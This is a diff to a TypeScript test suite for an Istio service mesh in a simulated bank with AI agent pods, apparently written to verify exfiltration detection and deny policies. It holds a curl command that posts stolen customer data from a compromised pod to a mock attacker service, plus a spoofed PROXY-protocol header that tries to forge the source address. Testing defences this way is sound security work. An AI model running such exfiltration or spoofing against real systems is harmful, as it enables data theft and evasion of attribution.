@@ -23,6 +23,7 @@ describe('the mesh', () => {
     await t?.close();
   });
 
+  const attackerUrl = () => t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url;
   const exfilFromConverter = () => t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-X', 'POST', '-d', '{"stolen_at_tool":"probe","stolen_data":{"name":"Alex Carter"}}', EXFIL]);
 
   it('gives every pod its SPIFFE identity and the digest its tag points at', () => {
@@ -32,6 +33,7 @@ describe('the mesh', () => {
       'spiffe://cluster.local/ns/trustusbank-bank-agents/sa/fraud-bot',
       'spiffe://cluster.local/ns/trustusbank-bank-agents/sa/support-bot',
       'spiffe://cluster.local/ns/trustusbank-bank-agents/sa/triage-bot',
+      'spiffe://cluster.local/ns/trustusbank-bank-frontend/sa/chatbot',
       'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/account-mcp',
       'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/ticket-mcp',
       'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/transaction-mcp',
@@ -51,6 +53,29 @@ describe('the mesh', () => {
     expect((await t.attackerLoot()).count).toBe(before + 1);
     const metrics = await t.metricsText();
     expect(seriesValue(metrics, 'istio_tcp_connections_opened_total', { reporter: 'destination', source_principal: CONVERTER, destination_workload: 'mock-attacker' })).toBeGreaterThan(0);
+  });
+
+  it("shows the attacker the sending pod's address, as ambient keeps it, and no one can claim another", async () => {
+    const converter = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter')[0]!;
+    expect((await exfilFromConverter()).code).toBe(0);
+    const loot = async () => ((await (await fetch(new URL('/loot', attackerUrl()))).json()) as { events: { source_ip: string; body: unknown }[] }).events;
+    expect((await loot()).at(-1)!.source_ip).toBe(converter.ip);
+    const before = (await t.attackerLoot()).count;
+    // Through the host port the sender is this machine; a source line of the client's own is only data.
+    const spoof = await new Promise<string>((resolve, reject) => {
+      const url = new URL(attackerUrl());
+      const socket = connect(Number(url.port), url.hostname);
+      let answer = '';
+      socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
+      socket.on('close', () => resolve(answer));
+      socket.on('error', reject);
+      socket.write(`PROXY TCP4 ${converter.ip} 10.244.0.1 4242 8080\r\nPOST /exfil HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`);
+    });
+    expect(spoof).toMatch(/^HTTP\/1\.1 400/);
+    expect((await t.attackerLoot()).count).toBe(before);
+    const direct = await fetch(new URL('/exfil', attackerUrl()), { method: 'POST', body: '{"from":"host"}' });
+    expect(direct.status).toBe(200);
+    expect((await loot()).at(-1)).toMatchObject({ source_ip: '127.0.0.1', body: { from: 'host' } });
   });
 
   it('refuses the converter at the attacker once deny-bank-to-attacker applies, and leaves the evidence', async () => {
